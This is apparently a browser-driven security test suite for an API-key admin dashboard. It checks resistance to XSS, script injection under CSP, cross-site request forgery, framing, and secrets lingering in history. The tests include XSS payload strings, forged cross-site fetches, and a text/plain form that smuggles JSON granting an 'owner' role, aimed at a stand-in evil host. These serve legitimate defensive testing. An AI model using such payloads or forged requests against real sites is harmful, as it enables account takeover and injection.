// What other pages and other people's texts can do here: nothing.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { askForKey, launch, makeKey, open, ready, signIn, store, until, visit } from "./browser.mjs";
import { PAYLOADS } from "./payloads.mjs";

let browser;
let evil;
before(async () => {
  browser = await launch();
  evil = createServer((request, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end("<!doctype html><title>evil</title><body>evil");
  });
  await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
});
after(async () => {
  await browser.close();
  evil.close();
});

/** Methods that change something. */
const UNSAFE = ["POST", "PUT", "PATCH", "DELETE"];

const evilUrl = () => `http://127.0.0.1:${evil.address().port}/`;

test("no text of anybody becomes script or markup, on any page", async () => {
  const { page, context, told } = await open(browser);
  await signIn(page, "owner");
  assert.equal(PAYLOADS.length, 60);
  // Into every text that the API keeps, a key each.
  const made = await page.evaluate(async ([workspace, payloads]) => {
    const statuses = [];
    const kids = [];
    const { name } = await fetch(`/api/v1/workspaces/${workspace}`).then((answer) => answer.json());
    const send = (method, path, body) =>
      fetch(`/api/v1/workspaces/${workspace}${path}`, { method, headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
    for (let at = 0; at < payloads.length; at++) {
      const text = payloads[at];
      const body = { name: text.slice(0, 100), description: text, scopes: ["read"], bindings: { agent_id: [text.slice(0, 128)] } };
      const answer = await send("POST", "/api-keys", body);
      const key = await answer.json();
      statuses.push(answer.status);
      if (answer.status !== 201) continue;
      kids.push(key.id);
      // At most 20 are active.
      await send("DELETE", `/api-keys/${key.id}`);
      statuses.push((await send("PATCH", "", { name: text.slice(0, 100) })).status);
    }
    await send("PATCH", "", { name });
    const live = await (await send("POST", "/api-keys", { name: "live", scopes: ["read"], limits: { requests: 9, burst: 9 } })).json();
    return { statuses, kids, live: live.id };
  }, [ready.workspace, PAYLOADS]);
  assert.deepEqual(made.statuses.filter((status) => status >= 300), [], "every one is stored");
  await page.reload();
  await page.getByRole("region", { name: "Keys" }).waitFor();
  const list = await page.getByRole("region", { name: "Keys" }).innerText();
  for (const text of ["<img src=x onerror=alert(1)>", "javascript:alert(1)"]) assert.ok(list.includes(text), text);
  for (const kid of made.kids) {
    await page.goto(`${ready.admin_url}/#/keys/${kid}`);
    await page.getByText(kid).first().waitFor();
    assert.equal(await page.evaluate(markup), 0, kid);
  }
  await visit(page, "audit", "Audit log");
  assert.equal(await page.evaluate(markup), 0, "audit");
  // And into every field of every page, as it is typed and sent.
  const forms = [
    ["keys", "Keys", 1], ["keys/new", "New key", 7], [`keys/${made.live}/edit`, "Edit key", 7], [`keys/${made.live}`, "live", 1],
    [`keys/${made.live}/try`, "Try it", 1], ["keys/import", "Import keys", 3], ["members", "Members", 1], ["limits", "Limits", 4],
    ["policy", "Policy", 1], ["alerts", "Alerts", 1], ["denials", "Denials", 2], ["explain", "Explain", 3],
  ];
  for (const [path, heading, least] of forms) {
    await visit(page, path, heading);
    const count = await page.evaluate(fillAll, PAYLOADS);
    assert.ok(count >= least, `${path} has ${count} fields of text`);
    assert.equal(await page.evaluate(markup), 0, path);
  }
  // What is asked about comes back in the answer.
  await visit(page, "explain", "Explain");
  for (const text of PAYLOADS.slice(0, 10)) {
    await page.getByLabel("URL").fill(`https://api.test/v1/agents?${text}`);
    await page.getByLabel("Client address").fill(text);
    await page.getByRole("button", { name: "Explain" }).click();
    await page.getByRole("region", { name: "Checks" }).or(page.getByRole("alert")).waitFor();
    assert.equal(await page.evaluate(markup), 0, text);
  }
  await visit(page, "denials", "Denials");
  await page.getByLabel("The refusal").fill(JSON.stringify({ signed: PAYLOADS.map((part) => ({ part, sha256: "0".repeat(64) })) }));
  await page.getByText("The first that differs: ").waitFor();
  for (const text of PAYLOADS.slice(0, 10).map(encodeURIComponent)) {
    for (const path of [`${text}/${text}`, `keys/${text}`, `denials/${text}`]) await page.goto(`${ready.admin_url}/#/${path}`);
  }
  assert.deepEqual([told.dialogs, told.violations, told.errors], [[], [], []]);
  assert.equal(await page.evaluate(markup), 0);
  await context.close();
});

/** How many elements there are that no page of ours has, links that run script among them. */
function markup() {
  const links = [...document.querySelectorAll("#app [href]")].filter(({ protocol }) => !/^https?:$/.test(protocol));
  return document.querySelectorAll("#app :is(img, iframe, script, object, embed, base, meta, link, style, video)").length + links.length;
}

/** Types each of the texts into all fields of a page, and leaves them; how many fields there are. */
function fillAll(texts) {
  const fields = () => [...document.querySelectorAll("input:not([type=checkbox]):not([type=datetime-local]), textarea")];
  for (const text of texts) {
    for (const field of fields()) {
      const kind = field instanceof HTMLTextAreaElement ? HTMLTextAreaElement : HTMLInputElement;
      Object.getOwnPropertyDescriptor(kind.prototype, "value").set.call(field, text);
      for (const event of ["input", "change", "blur"]) field.dispatchEvent(new Event(event, { bubbles: true }));
    }
    if (text === texts[0]) document.querySelector("form button.primary, form button:not([type=button])")?.click();
  }
  return fields().length;
}

test("the same texts do harm where a page takes them for markup", async () => {
  // Chromium may fall over them while it closes their page: it is no other test's.
  const own = await launch();
  const { page, told } = await open(own);
  await page.goto(evilUrl());
  await page.evaluate((texts) => {
    for (const text of texts) {
      const frame = document.createElement("iframe");
      frame.srcdoc = text;
      document.body.append(frame);
    }
  }, PAYLOADS);
  await until("most of them run", () => told.dialogs.length >= 20);
  await own.close();
});

test("a script that is injected all the same is refused and told of", async () => {
  const { page, context, told } = await open(browser);
  await page.goto(ready.admin_url);
  await page.evaluate(() => {
    const script = document.createElement("script");
    try {
      script.text = "window.ran = 1";
    } catch {}
    document.body.append(script);
    try {
      document.body.innerHTML += "<img src=x onerror='window.ran = 1'>";
    } catch {}
    const elsewhere = document.createElement("img");
    elsewhere.src = "https://evil.example/x.png";
    document.body.append(elsewhere);
  });
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => window.ran), undefined);
  const kinds = new Set(told.violations.map((text) => text.split(" ")[0]));
  assert.ok(kinds.has("require-trusted-types-for") && kinds.has("img-src"), [...kinds].join(", "));
  await context.close();
});

test("Wasm of this host runs, and no text does", async () => {
  const { page, context, told } = await open(browser);
  await page.goto(ready.admin_url);
  const ran = await page.evaluate(async () => {
    // Where a debugger begins, it may evaluate texts.
    await new Promise((resolve) => setTimeout(resolve));
    const attempts = {
      eval: () => eval("1"),
      Function: () => new Function("return 1")(),
      elsewhere: () => fetch("https://evil.example/x.wasm"),
      data: () => fetch("data:application/wasm;base64,AGFzbQEAAAA="),
    };
    const done = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      await (async () => attempt())().then(() => done.push(name), () => {});
    }
    await WebAssembly.compile(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)).then(() => done.push("wasm"), () => {});
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(base);
    if (new URL("x", document.baseURI).host === "evil.example") done.push("base");
    const style = document.createElement("style");
    style.textContent = "body { color: rgb(1, 2, 3) }";
    document.head.append(style);
    if (getComputedStyle(document.body).color === "rgb(1, 2, 3)") done.push("style");
    const form = document.createElement("form");
    form.action = "https://evil.example/";
    document.body.append(form);
    form.submit();
    return done;
  });
  assert.deepEqual(ran, ["wasm"]);
  const kinds = () => new Set(told.violations.map((text) => text.split(" ")[0]));
  const expected = ["require-trusted-types-for", "connect-src", "base-uri", "style-src-elem", "form-action"];
  await until("all of it is told of", () => expected.every((kind) => kinds().has(kind)), 3000).catch((error) => {
    throw new Error(`${error.message}: ${[...kinds()].join(", ")}`);
  });
  await context.close();
});

test("no other site's form, fetch or image changes anything or reads anything", async () => {
  const { page, context } = await open(browser);
  await signIn(page, "owner");
  const { kid } = await makeKey(page, "target");
  const state = () =>
    page.evaluate(async (workspace) => {
      const get = (path) => fetch(`/api/v1/workspaces/${workspace}${path}`).then((answer) => answer.json());
      const { entries } = await get("/audit?limit=1");
      return { newest: entries[0].sequence, me: (await fetch("/api/v1/me")).status };
    }, ready.workspace);
  const before = await state();
  const { paths } = await page.evaluate(() => fetch("/api/v1/openapi.json").then((answer) => answer.json()));
  const named = { workspace: ready.workspace, kid, member: "dev:member", request_id: "0".repeat(32) };
  const filled = (path) =>
    path.replace(/\{(\w+)\}/g, (_, name) => named[name] ?? assert.fail(`${path}: what is ${name}?`));
  const endpoints = Object.entries(paths).flatMap(([path, operations]) =>
    UNSAFE.filter((method) => method.toLowerCase() in operations).map((method) => [method, ready.admin_url + filled(path)]),
  );
  assert.ok(endpoints.length >= 17, `${endpoints.length} endpoints in the document`);
  endpoints.push(["POST", `${ready.admin_url}/logout`]);
  const other = await context.newPage();
  for (const [method, url] of endpoints) {
    await other.goto(evilUrl());
    const read = await other.evaluate(async ([method, url]) => {
      const body = method === "DELETE" ? undefined : '{"name":"evil","scopes":["read"],"grace_seconds":0,"role":"owner"}';
      const attempts = [
        fetch(url, { method, body, credentials: "include", headers: { "content-type": "application/json" } }),
        fetch(url, { method, body, credentials: "include", headers: { "content-type": "text/plain" } }),
        fetch(url, { method: "POST", body, credentials: "include", mode: "no-cors" }),
        fetch(url, { credentials: "include" }),
      ];
      const image = new Image();
      image.src = url;
      const settled = await Promise.allSettled(attempts);
      return settled.filter(({ status, value }) => status === "fulfilled" && value.type !== "opaque").length;
    }, [method, url]);
    assert.equal(read, 0, `${method} ${url} was read`);
    await Promise.all([
      other.waitForNavigation(),
      other.evaluate((url) => {
        const form = document.createElement("form");
        Object.assign(form, { method: "POST", action: url, enctype: "text/plain" });
        const field = document.createElement("input");
        Object.assign(field, { name: '{"name":"evil","scopes":["read"],"a":"', value: '"}' });
        form.append(field);
        document.body.append(form);
        form.submit();
      }, url),
    ]);
    assert.match(await other.content(), /CROSS_SITE|METHOD_NOT_ALLOWED/, `${method} ${url}`);
  }
  assert.deepEqual(await state(), before);
  await context.close();
});

test("no page shows the dashboard in a frame", async () => {
  const { page, context } = await open(browser);
  await signIn(page, "owner");
  for (const [from, kind] of [[evilUrl(), "another site"], [`${ready.admin_url}/`, "itself"]]) {
    await page.goto(from);
    for (const path of ["/", "/login", "/callback?code=a&state=b"]) {
      await page.evaluate((url) => {
        const frame = document.createElement("iframe");
        frame.id = "frame";
        frame.src = url;
        document.body.append(frame);
        return new Promise((resolve) => {
          frame.addEventListener("load", resolve);
          setTimeout(resolve, 2000);
        });
      }, ready.admin_url + path);
      const inside = page.frames().find((frame) => frame !== page.mainFrame());
      const text = inside ? await inside.locator("body").innerText({ timeout: 1000 }).catch(() => "") : "";
      assert.doesNotMatch(text, /Keys|Sign in|Portcullis|Choose/, `${path} in ${kind}`);
      await page.evaluate(() => document.getElementById("frame").remove());
    }
  }
  await context.close();
});

test("back, forward and reload show no secret that was shown before", async () => {
  const { page, context } = await open(browser);
  await signIn(page, "owner");
  const secret = await askForKey(page, "back");
  const gone = async (what) => {
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    const values = await page.evaluate(() => [...document.querySelectorAll("input, textarea")].map(({ value }) => value).join("\n"));
    assert.ok(!((await page.content()) + values).includes(secret), what);
  };
  await store(page);
  await page.getByRole("heading", { name: "back", level: 1 }).waitFor();
  await page.goBack();
  await gone("back within the page");
  await page.goForward();
  await gone("forward");
  const other = await askForKey(page, "back-2");
  assert.notEqual(other, secret);
  await page.goto(evilUrl());
  await page.goBack();
  await page.getByRole("heading", { level: 1 }).first().waitFor();
  const values = await page.evaluate(() => [...document.querySelectorAll("input")].map(({ value }) => value).join("\n"));
  assert.ok(!((await page.content()) + values).includes(other), "back from elsewhere");
  await context.close();
});
